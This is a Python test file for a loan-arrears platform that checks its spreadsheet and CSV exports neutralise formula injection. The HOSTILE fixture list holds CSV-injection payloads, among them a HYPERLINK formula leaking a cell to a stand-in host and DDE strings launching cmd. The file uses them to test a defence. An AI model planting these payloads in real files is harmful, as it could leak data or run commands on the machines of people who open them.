"""No formula injection where the platform writes a cell (OWASP, CSV injection; kernel.sheets):
hostile text from a lender's file comes back as text in the import's rejected rows, the case
exports (.xlsx and .csv, the console's and the CLI's) and the reconciliation's result workbook;
.xlsx text cells that begin like a formula carry the quote prefix, .csv ones a leading quote."""

from __future__ import annotations

import csv
import io
import pathlib
import re
import subprocess
import sys
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from flask import Flask

from arrears.extensions import db
from arrears.kernel import sheets
from arrears.models import Organisation
from arrears.payments import reconcile
from tests.builders.pages import submit_mapping, upload_cases
from tests.conftest import Database, cli_env, signed_in

ROOT = pathlib.Path(__file__).resolve().parents[2]
FLASK = [sys.executable, "-m", "flask", "--app", "wsgi"]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HEADERS = "借据号,客户姓名,身份证号,手机号码,借款金额(元),到期日,逾期天数,本金余额,欠款总额,单位名称,家庭地址"


def _formula_cells(data: bytes) -> list[tuple[str, str, Any]]:
    """Every cell of every sheet that a spreadsheet program would run or could turn into a formula."""
    found = []
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and sheets.formula_like(cell.value) and not cell.quotePrefix
                ):
                    found.append((sheet.title, cell.coordinate, cell.value))
    return found


def _texts(data: bytes) -> set[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _id_number(i: int) -> str:
    """A mainland resident ID number with its GB 11643 check digit, one per debtor."""
    body = f"1101051949123{i:03d}1"
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return body + "10X98765432"[sum(int(d) * w for d, w in zip(body, weights, strict=True)) % 11]


def _hostile_cases_csv() -> bytes:
    lines = [HEADERS]
    for i, text in enumerate(HOSTILE):
        quoted = '"' + text.replace('"', '""') + '"'
        # a good row whose name, employer and address are hostile
        lines.append(
            f"FX{i:04d},{quoted},{_id_number(i)},1380013800{i},1000.00,2026/09/19,40,900.00,950.00,{quoted},{quoted}"
        )
        # a rejected row (its amount is the hostile text): its cells come back in errors.xlsx
        lines.append(
            f"FY{i:04d},{quoted},{_id_number(50 + i)},1390013900{i},{quoted},2026/09/19,40,9.00,{quoted},x,y"
        )
    return ("\n".join(lines) + "\n").encode("utf-8-sig")


def test_the_helper_neutralises_text_and_leaves_numbers() -> None:
    assert all(sheets.formula_like(text) for text in HOSTILE)
    for plain in ("-102.04", "+86", "1e5", "", "张三", "a=b", "2026-11-01"):
        assert not sheets.formula_like(plain), plain
    assert sheets.csv_cell("=1+1") == "'=1+1" and sheets.csv_cell("-102.04") == "-102.04"
    assert sheets.csv_cell(Decimal("-5.00")) == Decimal("-5.00") and sheets.csv_cell(7) == 7
    out = io.BytesIO()
    workbook = sheets.Workbook(out, {"strings_to_formulas": True, "in_memory": True})
    sheet = workbook.add_worksheet("s")
    bold = workbook.add_format({"bold": True})
    sheet.write_row(0, 0, HOSTILE)
    sheet.write_row(1, 0, HOSTILE, bold)
    for col, text in enumerate(HOSTILE):
        sheet.write_string(2, col, text)
        sheet.write(3, col, text)
    sheet.write_formula(4, 0, "=1+1")  # the platform writes no formula: it becomes text
    sheet.write(5, 0, "http://evil.example/")  # and no link
    workbook.close()
    data = out.getvalue()
    assert [c for c in _formula_cells(data) if c[1][-1] != "2"] == []  # row 2: a given format, text
    loaded = openpyxl.load_workbook(io.BytesIO(data))["s"]
    assert all(cell.data_type == "s" for row in loaded.iter_rows() for cell in row if cell.value)
    assert loaded["A1"].value == HOSTILE[0] and loaded["A1"].quotePrefix
    assert loaded["A6"].hyperlink is None


def test_import_rejected_rows_and_case_exports_write_text_not_formulas(
    eager_app: Flask, database: Database, tmp_path: pathlib.Path
) -> None:
    from tests.builders.tenants import build_world

    world = build_world()
    c = signed_in(eager_app, world.bank.admin_email)
    uploaded = upload_cases(c, _hostile_cases_csv(), "h.csv")
    assert uploaded.status_code == 302, uploaded.get_data(as_text=True)[:500]
    done = submit_mapping(c, uploaded.headers["Location"], "import")
    assert done.status_code == 302
    report = c.get(done.headers["Location"]).get_data(as_text=True)
    imported = database.scalar("SELECT count(*) FROM cases WHERE loan_no LIKE 'FX%'")
    assert imported == len(HOSTILE), re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", report))[-3000:]
    batch_id = database.scalar("SELECT id FROM import_batches")

    errors = c.get(f"/asset/imports/{batch_id}/errors.xlsx")
    assert errors.status_code == 200
    assert _formula_cells(errors.data) == []
    # the lender's cells come back as they were (trimmed), as text
    assert {text.strip() for text in HOSTILE} <= {text.strip() for text in _texts(errors.data)}

    # the console's exports are masked: a masked hostile name still begins like one ("=*****...")
    exported = c.get("/asset/cases/export?format=xlsx")
    assert exported.status_code == 200
    assert _formula_cells(exported.data) == []
    assert any(text.startswith("=*") for text in _texts(exported.data))
    as_csv = c.get("/asset/cases/export?format=csv").get_data(as_text=True).lstrip("\ufeff")
    cells = _csv_cells(as_csv)
    assert not [cell for cell in cells if sheets.formula_like(cell)]
    assert any(cell.startswith("'=*") for cell in cells)

    env = cli_env(eager_app, database)
    out = tmp_path / "cases.csv"
    slug = database.scalar("SELECT slug FROM organisations WHERE id = :i", i=world.bank.org_id)
    cli = subprocess.run(
        [
            sys.executable,
            "-m",
            "flask",
            "--app",
            "wsgi",
            "cases",
            "export",
            "--org",
            slug,
            "--format",
            "csv",
            "--unmask",
            str(out),
        ],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert cli.returncode == 0, cli.stderr[-2000:]
    cli_cells = _csv_cells(out.read_text(encoding="utf-8-sig"))
    assert not [cell for cell in cli_cells if sheets.formula_like(cell)]
    assert {"'" + text for text in HOSTILE[:4]} <= set(cli_cells)


@pytest.mark.usefixtures("app")
def test_the_reconciliation_result_writes_the_statements_cells_as_text(world: Any) -> None:
    rows = [["交易流水号", "借据号", "还款时间", "还款金额", "还款渠道"]]
    for i, text in enumerate(HOSTILE):
        rows.append([f"{text}{i}", text, "2026-10-29 10:00", "10.00", text])  # unknown loans
        rows.append([f"T-{i}", f"L-{i}", text, text, ""])  # invalid rows
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    owner = db.session.get(Organisation, world.lender.org_id)
    assert owner is not None
    result = reconcile.reconcile(owner, text.getvalue().encode("utf-8"), "hostile.csv")
    assert result["summary"]["invalid"]["count"] == len(HOSTILE)
    data = reconcile.workbook_bytes(result)
    assert _formula_cells(data) == []
    assert {text.strip() for text in HOSTILE} <= {text.strip() for text in _texts(data)}
